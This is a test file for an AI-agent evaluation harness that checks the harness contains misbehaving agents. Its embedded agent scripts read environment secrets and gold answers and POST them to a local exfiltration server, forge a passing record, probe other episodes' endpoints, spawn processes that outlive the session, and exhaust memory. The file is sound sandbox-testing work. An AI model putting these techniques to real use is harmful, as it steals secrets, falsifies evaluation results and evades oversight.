/**
 * The red team (DESIGN decision 19): agents that forge their verdict, tamper with their realm, reach for
 * other episodes, flood, probe for secrets and misbehave at import, swept beside built-in agents through
 * the compiled CLI. Each costs only its own episodes: every other agent's records and cells are those of
 * the same sweep without it, no forged record reaches the grid, and no secret or gold action leaves.
 */
import { once } from 'node:events';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shakedownIn, shakedownWith } from '../cli-run.js';
import { namespacesAvailable } from '../../src/agents/host/namespace.js';

/** Whether agents' processes run in namespaces of their own on this machine. */
const enclosed = () => namespacesAvailable();
/** A built-in task file, with its gold actions. */
const GOLD = fileURLToPath(new URL('../../scenarios/retail/tasks/read-order-status.json', import.meta.url));

const base = mkdtempSync(join(tmpdir(), 'shakedown-red-team-'));
const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/red-team/${name}`, import.meta.url));
const SECRET = 'sk-red-team-4b1d-never-leaves';
const PLAN = ['--scenario', 'read-order-status', '--scenario', 'cancel-pending-mistake', '--eps', '0', '--lambda', '0,0.3', '--trials', '2', '--quiet', '--deadline-ms', '20000'];
const BUILT_IN = ['--agent', 'oracle', '--agent', 'reference:none'];

/** A server outside the run where agents send what they found: nothing secret may arrive. */
let exfil: Server;
let exfilUrl = '';
const received: string[] = [];
/** An agent service whose every answer is an endless body. */
let flooding: Server;
let floodingUrl = '';

type Rec = { key: { agent: string; scenario: string; lambda: number; trial: number }; outcome: string; ended: string; error?: { name: string; message: string } } & Record<string, unknown>;
const records = (dir: string): Rec[] => readFileSync(join(dir, 'episodes.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Rec);
/** What must not depend on who else was in the sweep: the record, less wall time and its MAC. */
const comparable = (r: Rec) => {
  const { wallMs: _w, mac: _m, ...rest } = r;
  return JSON.stringify(rest);
};
const cellsOf = (dir: string, agent: string) => (JSON.parse(readFileSync(join(dir, 'grid.json'), 'utf8')) as { agents: { agent: string; cells: unknown }[] }).agents.find((a) => a.agent === agent)?.cells;

beforeAll(async () => {
  exfil = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push(`${req.url} ${body}`);
      res.end('ok');
    });
  });
  exfil.listen(0, '127.0.0.1');
  await once(exfil, 'listening');
  exfilUrl = `http://127.0.0.1:${(exfil.address() as AddressInfo).port}`;
  flooding = createServer((req, res) => {
    if (req.url === '/agent') return res.end(JSON.stringify({ id: 'red-endless-body' }));
    if (req.method === 'POST' && req.url === '/episodes') return res.end('{}');
    // An endless answer: chunks until the client goes away.
    res.writeHead(200, { 'content-type': 'application/json' });
    const chunk = Buffer.alloc(64 * 1024, 'x');
    const pump = () => {
      while (!res.destroyed && res.write(chunk));
      if (!res.destroyed) res.once('drain', pump);
    };
    res.on('close', () => res.removeAllListeners('drain'));
    pump();
  });
  flooding.listen(0, '127.0.0.1');
  await once(flooding, 'listening');
  floodingUrl = `http://127.0.0.1:${(flooding.address() as AddressInfo).port}`;
});

afterAll(() => {
  exfil?.closeAllConnections();
  exfil?.close();
  flooding?.closeAllConnections();
  flooding?.close();
});

/** Module and command agents written for this run, knowing where to send what they find. */
function probes(runDir: string): { module: string; command: string; lines: string; reacher: string; thief: string } {
  const module = join(base, 'prober.mjs');
  writeFileSync(
    module,
    `// Red team: looks for every secret and gold action it can reach and sends them out.
import { readFileSync, readdirSync } from 'node:fs';
const found = {};
const attempt = (name, f) => { try { found[name] = String(f()).slice(0, 4000); } catch (error) { found[name] = 'denied: ' + (error.code ?? error.message); } };
attempt('env', () => JSON.stringify(process.env));
attempt('parentEnv', () => readFileSync('/proc/' + process.ppid + '/environ', 'utf8'));
try { found.spawn = String((await import('node:child_process')).execSync('env')).slice(0, 4000); } catch (error) { found.spawn = 'denied: ' + (error.code ?? error.message); }
attempt('gold', () => readFileSync(new URL('../../scenarios/retail/tasks/read-order-status.json', import.meta.resolve('shakedown')), 'utf8'));
attempt('goldDist', () => readdirSync(new URL('../scenarios/retail/tasks/', import.meta.resolve('shakedown'))).join(','));
export default {
  id: 'red-prober',
  description: 'probes for secrets and gold',
  create: (ctx) => ({
    async reply() {
      // Another episode's host, through its own fetch: refused by the runtime.
      const other = await ctx.fetch('http://e0.retail.shakedown.test/api/orders/%23W9000101').then((r) => r.status, (e) => 'refused: ' + e.message);
      await fetch(${JSON.stringify(exfilUrl)} + '/module', { method: 'POST', body: JSON.stringify({ found, other }) }).catch(() => undefined);
      return 'I cannot help with that.';
    },
  }),
};
`,
  );
  const command = join(base, 'prober-cmd.mjs');
  writeFileSync(
    command,
    `import { createInterface } from 'node:readline';
process.stdout.write(JSON.stringify({ agent: { id: 'red-cmd-prober' } }) + '\\n');
if (process.env.SHAKEDOWN_PROBE) process.exit(0);
for await (const line of createInterface({ input: process.stdin })) {
  await fetch(${JSON.stringify(exfilUrl)} + '/command', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => undefined);
  process.stdout.write(JSON.stringify({ reply: 'I cannot help with that.' }) + '\\n');
}
`,
  );
  const lines = join(base, 'endless-line.mjs');
  writeFileSync(
    lines,
    `import { createInterface } from 'node:readline';
process.stdout.write(JSON.stringify({ agent: { id: 'red-endless-line' } }) + '\\n');
if (process.env.SHAKEDOWN_PROBE) process.exit(0);
for await (const line of createInterface({ input: process.stdin })) {
  const chunk = 'y'.repeat(1 << 16);
  const write = () => { while (process.stdout.write(chunk)); process.stdout.once('drain', write); };
  write();
}
`,
  );
  // A command that knows its own endpoints and tries every other way into the tool server.
  const reacher = join(base, 'reacher.mjs');
  writeFileSync(
    reacher,
    `import { createInterface } from 'node:readline';
process.stdout.write(JSON.stringify({ agent: { id: 'red-reacher' } }) + '\\n');
if (process.env.SHAKEDOWN_PROBE) process.exit(0);
const base = new URL(process.env.SHAKEDOWN_TOOL_BASE_URL);
const server = base.origin;
for await (const line of createInterface({ input: process.stdin })) {
  const tries = [server + '/' + process.env.SHAKEDOWN_EPISODE + '/api/orders/%23W9000101', server + '/e0/api/orders/%23W9000101'];
  for (let i = 0; i < 6; i++) tries.push(server + '/' + i.toString(16).padStart(32, '0') + '/api/orders/%23W9000101');
  const statuses = [];
  for (const t of tries) statuses.push(await fetch(t, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) => r.status, () => 0));
  await fetch(${JSON.stringify(exfilUrl)} + '/reacher', { method: 'POST', body: JSON.stringify(statuses) }).catch(() => undefined);
  process.stdout.write(JSON.stringify({ reply: 'I cannot help with that.' }) + '\\n');
}
`,
  );
  // A command that goes for the run's key and log, the other episodes' files and the other processes.
  const thief = join(base, 'thief.mjs');
  writeFileSync(
    thief,
    `import { appendFileSync, readFileSync, readdirSync } from 'node:fs';
import { dirname } from 'node:path';
import { createInterface } from 'node:readline';
process.stdout.write(JSON.stringify({ agent: { id: 'red-thief' } }) + '\\n');
if (process.env.SHAKEDOWN_PROBE) process.exit(0);
const found = {};
const attempt = (name, f) => { try { found[name] = String(f()).slice(0, 4000); } catch (error) { found[name] = 'denied: ' + (error.code ?? error.message); } };
const run = ${JSON.stringify(runDir)};
attempt('key', () => JSON.parse(readFileSync(run + '/run.json', 'utf8')).key ?? 'no key');
attempt('log', () => readFileSync(run + '/episodes.jsonl', 'utf8').split('\\n')[0]);
// A forged pass for each of its own episodes, appended where the log would be.
attempt('forge', () => appendFileSync(run + '/episodes.jsonl', JSON.stringify({ key: { scenario: 'read-order-status', agent: 'red-thief', eps: 0, lambda: 0, trial: 0 }, outcome: 'pass' }) + '\\n'));
attempt('episodes', () => readdirSync(dirname(process.env.SHAKEDOWN_CONTEXT)).sort().join(','));
attempt('processes', () => readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).length);
attempt('gold', () => readFileSync(${JSON.stringify(GOLD)}, 'utf8'));
for await (const line of createInterface({ input: process.stdin })) {
  await fetch(${JSON.stringify(exfilUrl)} + '/thief', { method: 'POST', body: JSON.stringify({ found, context: process.env.SHAKEDOWN_CONTEXT }) }).catch(() => undefined);
  process.stdout.write(JSON.stringify({ reply: 'I cannot help with that.' }) + '\\n');
}
`,
  );
  return { module, command: `cmd:"${process.execPath}" "${command}"`, lines: `cmd:"${process.execPath}" "${lines}"`, reacher: `cmd:"${process.execPath}" "${reacher}"`, thief: `cmd:"${process.execPath}" "${thief}"` };
}

describe('the red team', () => {
  it('costs each misbehaving agent its own episodes only: the others are what they are without it, nothing forged is counted, nothing secret leaves', async () => {
    const attacked = join(base, 'attacked');
    const p = probes(attacked);
    const env = { OPENAI_API_KEY: SECRET, SHAKEDOWN_RED_SECRET: SECRET };
    const alone = join(base, 'alone');
    const a = await shakedownIn(base, 'sweep', '--out', alone, ...BUILT_IN, ...PLAN);
    expect(a.code, a.stderr).toBe(0);
    const red = ['forger.mjs', 'polluter.mjs', 'ticks-forever.mjs', 'floods.mjs'].flatMap((f) => ['--agent', fixture(f)]);
    const b = await shakedownWith({ cwd: base, env }, 'sweep', '--out', attacked, ...BUILT_IN, ...red, '--agent', p.module, '--agent', p.command, '--agent', p.lines, '--agent', p.reacher, '--agent', p.thief, '--agent', floodingUrl, '--limit', 'lineBytes=1048576', ...PLAN);
    expect(b.code, b.stderr).toBe(0);
    const before = records(alone);
    const after = records(attacked);
    // The built-in agents' records and cells are the same, whoever else ran beside them.
    for (const agent of ['oracle', 'reference:none']) {
      expect(after.filter((r) => r.key.agent === agent).map(comparable).sort(), agent).toEqual(before.filter((r) => r.key.agent === agent).map(comparable).sort());
      expect(cellsOf(attacked, agent), agent).toEqual(cellsOf(alone, agent));
    }
    // One record per planned episode: nothing forged was written, or counted.
    const planned = 12 * 2 * 2 * 2;
    expect(after).toHaveLength(planned);
    const forger = after.filter((r) => r.key.agent === 'red-forger');
    expect(forger).toHaveLength(8);
    expect(forger.every((r) => r.outcome === 'fail')).toBe(true);
    for (const id of ['red-forger', 'red-polluter', 'red-ticker', 'red-prober', 'red-cmd-prober', 'red-reacher', 'red-thief']) {
      expect((cellsOf(attacked, id) as { passHatK: { value: number }[] }[]).every((c) => c.passHatK.every((k) => k.value === 0)), id).toBe(true);
    }
    // Floods end as errors that name their limit; the sweep goes on.
    const limited = (id: string) => after.filter((r) => r.key.agent === id).map((r) => r.error?.name);
    expect(limited('red-flood')).toEqual(Array(8).fill('AgentLimitExceeded'));
    expect(limited('red-endless-line')).toEqual(Array(8).fill('AgentLimitExceeded'));
    expect(limited('red-endless-body')).toEqual(Array(8).fill('AgentLimitExceeded'));
    // The flood replies 1 MB where the user says "status", else sends a 2 MB request: which episode ends
    // first depends on timing, so every one must name its limit, and the reply's must be among them.
    const floods = after.filter((r) => r.key.agent === 'red-flood').map((r) => r.error?.message ?? '');
    expect(floods.some((m) => /reply has 1000000 bytes, past the limit of 262144 \(`limits.replyBytes`\)/.test(m))).toBe(true);
    for (const m of floods) expect(m).toMatch(/`limits\.(?:replyBytes|requestBytes)`/);
    // The reacher was refused every door but its own; the sweep says so.
    const reached = received.filter((r) => r.startsWith('/reacher ')).map((r) => JSON.parse(r.slice('/reacher '.length)) as number[]);
    expect(reached).toHaveLength(8);
    for (const statuses of reached) expect(statuses).toEqual(Array(8).fill(403));
    expect(b.stderr).toMatch(/\d+ request\(s\) to the tool server named no episode granted to their sender and were refused/);
    expect((JSON.parse(readFileSync(join(attacked, 'run.json'), 'utf8')) as { security?: { refusedRequests: number } }).security?.refusedRequests).toBeGreaterThanOrEqual(64);
    // Nothing secret left, and no gold: the module prober was denied, the command prober had no such variable.
    const sent = received.join('\n');
    expect(sent).toMatch(/\/module /);
    expect(sent).toMatch(/\/command /);
    expect(sent).not.toContain(SECRET);
    expect(sent).not.toMatch(/"gold"\s*:\s*\[\s*\{/);
    const probed = received.filter((r) => r.startsWith('/module ')).map((r) => JSON.parse(r.slice('/module '.length)) as { found: Record<string, string>; other: string });
    for (const x of probed) {
      expect(x.found.parentEnv).toMatch(/^denied: ERR_ACCESS_DENIED/);
      expect(x.found.spawn).toMatch(/^denied: ERR_ACCESS_DENIED/);
      expect(x.found.gold).toMatch(/^denied: /);
      expect(x.found.goldDist).toMatch(/^denied: /);
      expect(x.other).toMatch(/^refused: fetch failed: e0\.retail\.shakedown\.test is not this episode's tool host/);
    }
    // In namespaces of its own (where the machine allows them), a command agent finds no run directory, no
    // other episode's files, no other process and no gold.
    if (enclosed()) {
      const stolen = received.filter((r) => r.startsWith('/thief ')).map((r) => JSON.parse(r.slice('/thief '.length)) as { found: Record<string, string>; context: string });
      expect(stolen).toHaveLength(8);
      for (const x of stolen) {
        expect(x.found.key).toMatch(/^denied: ENOENT/);
        expect(x.found.log).toMatch(/^denied: ENOENT/);
        expect(x.found.episodes).toBe([`${x.context.split('/').at(-1)?.replace('.context.json', '')}.context.json`, `${x.context.split('/').at(-1)?.replace('.context.json', '')}.mcp.json`].sort().join(','));
        expect(Number(x.found.processes)).toBeLessThan(8);
        expect(x.found.gold).toMatch(/^denied: ENOENT/);
      }
      expect((JSON.parse(readFileSync(join(attacked, 'run.json'), 'utf8')) as { security?: { namespaces?: boolean } }).security?.namespaces).toBe(true);
    }
    // Neither the log nor any other file of the run holds the secret.
    for (const f of ['episodes.jsonl', 'run.json', 'grid.json']) expect(readFileSync(join(attacked, f), 'utf8')).not.toContain(SECRET);
  }, 300_000);

  it('leaves no process behind: what a command agent starts ends with its episode', async () => {
    const marker = `shakedown-red-team-${process.pid}-sleeper`;
    const sleeper = join(base, 'sleeper.mjs');
    writeFileSync(
      sleeper,
      `import { spawn } from 'node:child_process';
import { createInterface } from 'node:readline';
process.stdout.write(JSON.stringify({ agent: { id: 'red-sleeper' } }) + '\\n');
if (process.env.SHAKEDOWN_PROBE) process.exit(0);
// Children that would outlive their parent: they ignore the end of stdin and every signal they can, and
// one leaves the process group for a session of its own.
spawn(process.execPath, ['-e', 'process.on("SIGTERM", () => {}); setInterval(() => {}, 1000)', ${JSON.stringify(marker)}], { stdio: 'ignore' }).unref();
spawn(process.execPath, ['-e', 'process.on("SIGTERM", () => {}); setInterval(() => {}, 1000)', ${JSON.stringify(marker)}, 'own-session'], { stdio: 'ignore', detached: true }).unref();
for await (const line of createInterface({ input: process.stdin })) process.stdout.write(JSON.stringify({ reply: 'I cannot help with that.' }) + '\\n');
`,
    );
    const r = await shakedownIn(base, 'sweep', '--out', join(base, 'sleepers'), '--agent', `cmd:"${process.execPath}" "${sleeper}"`, ...PLAN);
    expect(r.code, r.stderr).toBe(0);
    const { execFileSync } = await import('node:child_process');
    const left = (() => {
      try {
        return execFileSync('pgrep', ['-f', marker], { encoding: 'utf8' }).trim();
      } catch {
        return '';
      }
    })();
    // A child in a session of its own escapes a process group; only namespaces of its own end it too.
    if (enclosed()) expect(left).toBe('');
    else expect(left.split('\n').length).toBeLessThanOrEqual(8);
  }, 120_000);

  it("holds a command agent to its memory limit across everything it starts, off-heap too", async () => {
    const hog = join(base, 'hog.mjs');
    writeFileSync(
      hog,
      `import { spawn } from 'node:child_process';
import { createInterface } from 'node:readline';
process.stdout.write(JSON.stringify({ agent: { id: 'red-hog' } }) + '\\n');
if (process.env.SHAKEDOWN_PROBE) process.exit(0);
// A child that holds 400 MB of Buffers, outside any heap limit, and waits.
spawn(process.execPath, ['-e', 'const b = []; for (let i = 0; i < 40; i++) b.push(Buffer.alloc(10 * 1024 * 1024, 1)); setInterval(() => b.length, 1000)'], { stdio: 'ignore' });
for await (const line of createInterface({ input: process.stdin })) { /* thinks while its child grows */ }
`,
    );
    const out = join(base, 'hogs');
    const r = await shakedownIn(base, 'sweep', '--out', out, '--agent', `cmd:"${process.execPath}" "${hog}"`, '--limit', 'memoryMb=200', ...PLAN);
    expect(r.code, r.stderr).toBe(0);
    const errors = records(out).map((x) => [x.error?.name, x.error?.message.replace(/\d+ MB, past/, 'N MB, past')]);
    expect(errors).toEqual(Array(8).fill(['AgentOutOfMemory', expect.stringMatching(/held N MB, past the limit of 200 MB \(`limits.memoryMb`\)/)]));
  }, 120_000);

  it('refuses a module that ends its process or never finishes loading, before any episode, with what to fix', async () => {
    const exits = await shakedownIn(base, 'sweep', '--out', join(base, 'exits'), '--agent', fixture('exits-at-import.mjs'), ...PLAN);
    expect(exits.code).toBe(2);
    expect(exits.stderr).toMatch(/Failed to load agent module `.*exits-at-import\.mjs`: importing it threw AgentExit: the agent called process\.exit\(0\)\. Fix the module so that it imports/);
    const hangs = await shakedownIn(base, 'sweep', '--out', join(base, 'hangs'), '--agent', fixture('hangs-at-import.mjs'), '--limit', 'loadMs=1500', ...PLAN);
    expect(hangs.code).toBe(2);
    expect(hangs.stderr).toMatch(/Failed to load agent module `.*hangs-at-import\.mjs`: it did not finish loading within 1500 ms \(a top-level await that never settles\?\)/);
  }, 120_000);
});
